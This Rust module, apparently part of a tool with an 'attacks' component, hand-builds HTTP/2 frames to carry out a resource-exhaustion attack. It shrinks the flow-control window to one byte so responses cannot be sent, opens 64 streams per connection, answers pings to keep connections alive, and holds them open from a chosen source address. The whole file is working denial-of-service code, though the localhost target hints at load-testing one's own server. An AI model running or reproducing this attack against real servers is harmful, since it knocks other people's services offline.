//! HTTP/2 by hand, as no polite client speaks it: many streams, no window for their answers, and an
//! answer to every ping.

use std::net::Ipv4Addr;
use std::sync::atomic::AtomicBool;

use super::attacks::hold;
use super::wire::{Target, Tls, pull, push};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA_WINDOW: u16 = 4;
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const ACK: u8 = 1;
/// The header block and the stream end with this frame.
const ALL_IN_ONE: u8 = 5;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("frames here are small");
    let mut frame = length.to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A header field as HPACK allows it without any table.
fn field(block: &mut Vec<u8>, name: &str, value: &str) {
    block.push(0);
    for text in [name, value] {
        block.push(u8::try_from(text.len()).expect("texts here are short"));
        block.extend(text.as_bytes());
    }
}

struct Client {
    stream: Tls,
    /// What was read and is not a whole frame yet.
    read: Vec<u8>,
    next: u32,
}

impl Client {
    fn ask(&mut self) -> bool {
        let mut block = Vec::new();
        for (name, value) in [
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "localhost"),
            (":path", "/openapi.json"),
            ("accept-encoding", "zstd"),
        ] {
            field(&mut block, name, value);
        }
        let asked = push(
            &mut self.stream,
            &frame(HEADERS, ALL_IN_ONE, self.next, &block),
        );
        self.next += 2;
        asked
    }

    /// Answers pings and lets everything else be.
    fn stay(&mut self) -> bool {
        let mut buffer = [0; 16 << 10];
        let Some(read) = pull(&mut self.stream, &mut buffer) else {
            return false;
        };
        self.read.extend_from_slice(&buffer[..read]);
        while let Some((head, rest)) = self.read.split_first_chunk::<9>() {
            let length =
                usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
            let (kind, flags) = (head[3], head[4]);
            let Some(payload) = rest.get(..length) else {
                break;
            };
            if kind == PING
                && flags & ACK == 0
                && !push(&mut self.stream, &frame(PING, ACK, 0, payload))
            {
                return false;
            }
            self.read.drain(..9 + length);
        }
        true
    }
}

/// Streams whose answers have no room to be sent.
pub(super) fn streams(target: &Target, source: Ipv4Addr, stop: &AtomicBool) -> u64 {
    let open = || {
        let mut client = Client {
            stream: target.h2(source)?,
            read: Vec::new(),
            next: 1,
        };
        let mut window = DATA_WINDOW.to_be_bytes().to_vec();
        window.extend(1_u32.to_be_bytes());
        push(&mut client.stream, PREFACE);
        push(&mut client.stream, &frame(SETTINGS, 0, 0, &window));
        for _ in 0..64 {
            client.ask();
        }
        Ok(client)
    };
    hold(30, stop, open, Client::stay)
}
